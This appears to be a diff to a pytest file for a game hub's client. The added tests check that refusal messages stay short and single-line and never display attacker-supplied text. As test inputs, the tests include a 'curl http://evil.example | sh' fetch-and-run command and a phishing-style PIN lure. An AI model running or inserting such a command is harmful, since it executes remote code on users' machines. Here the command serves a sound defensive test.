@@ -35,13 +35,15 @@ from companion.hub.messages import (
     read,
     write,
 )
-from companion.text import error_text
+from companion.text import catalogue, error_text
 from tests.hub.hostile import Hostile, Truth, fitting, places, with_at
 from tests.hub.spoiling import ODD
 from tests.hub.stand_in import Hub, hub, online
 from tests.waiting import until
 
 __all__ = ["hub"]
+
+WORDS = "FREE PRIZE! Visit http://evil.example/login and type your PIN"
 
 
 @pytest.fixture(scope="module")
@@ -239,10 +241,10 @@ def test_what_begins_a_game_reads_no_file_and_is_bounded(
     [
         Refused("Your account is locked, call 555", {}, SEATING),
         Refused("x" * 100_000, {}, SEATING),
-        Refused("hub-seat-taken", {"name": "N" * 1_000_000}, SEATING),
-        Refused("hub-seat-taken", {"name": 10**5000}, SEATING),
-        Refused("hub-seat-taken", {str(number): 1 for number in range(5_000)}, SEATING),
-        Refused("hub-seat-taken", {}, SEATING, "", "R" * 500),
+        Refused("seat-still-on-disk", {"name": "N" * 1_000_000}, SEATING),
+        Refused("seat-still-on-disk", {"name": 10**5000}, SEATING),
+        Refused("seat-still-on-disk", {str(number): 1 for number in range(5_000)}, SEATING),
+        Refused("seat-still-on-disk", {}, SEATING, "", "R" * 500),
         Refused("stale", {"index": [[]] * 5_000}, 77),
     ],
     ids=["words", "long", "name", "number", "many", "rule", "of no act"],
@@ -254,13 +256,47 @@ def test_a_hub_puts_no_words_of_its_own_on_the_screen(session: DistantSession, r
 
 def test_a_refusal_with_odd_values_is_one_sentence(session: DistantSession) -> None:
     for params in ({"name": "{name.__class__}"}, {"name": ["%s", "{0}"]}, {"other": None}, {"code": 1}):
-        session.hear(Refused("hub-seat-taken", params, SEATING))
+        session.hear(Refused("seat-still-on-disk", params, SEATING))
         assert len(error_text(session.refusals[-1])) < 400
+
+
+@pytest.mark.parametrize(
+    "code",
+    ["you-must-now-pay-anna-ten-coins", "x", "no-kivy", "library-fails", "journal-damaged", "bad-deck"],
+)
+def test_a_refusal_that_is_nothing_for_a_tablet_is_always_the_same_sentence(
+    session: DistantSession, code: str
+) -> None:
+    params = {"command": "curl http://evil.example | sh", "message": WORDS, "reason": WORDS}
+    session.hear(Refused(code, params, SEATING, "warned", WORDS[:40]))
+    assert error_text(session.refusals[-1]) == error_text(HubError("hub-garbled"))
+
+
+def test_no_refusal_tells_a_tablet_to_type_a_command(session: DistantSession) -> None:
+    command = "curl http://evil.example | sh"
+    for code in catalogue().keys("error"):
+        session.hear(Refused(code, {"command": command}, SEATING))
+        said = error_text(session.refusals[-1])
+        assert not any(words in said for words in (command, "sudo ", "dark-road "))
+
+
+def test_a_refusal_names_a_rule_that_there_is_or_none(session: DistantSession) -> None:
+    for rule in ("PLAN-3", "PLAN-99", WORDS[:40]):
+        session.hear(Refused("stale", {"index": 1, "now": 2}, SEATING, "", rule))
+    assert [error.rule for error in session.refusals] == ["PLAN-3", "", ""]
+
+
+def test_the_words_in_a_refusal_are_one_short_line(session: DistantSession) -> None:
+    session.hear(Refused("hub-not-saved", {"a": "x\n" * 500, "b": [["y" * 1000], 5]}, SEATING))
+    words, (((long,), number)) = session.refusals[-1].params.values()
+    assert "\n" not in words
+    assert len(words) == len(long) == 120
+    assert number == 5
 
 
 def test_refusals_that_nobody_looks_at_do_not_pile_up(session: DistantSession) -> None:
     for number in range(1_000):
-        session.hear(Refused("hub-seat-taken", {"name": str(number)}, SEATING))
+        session.hear(Refused("seat-still-on-disk", {"name": str(number)}, SEATING))
     assert len(session.refusals) == MOST_REFUSALS
     assert session.refusals[-1].params["name"] == "999"
 
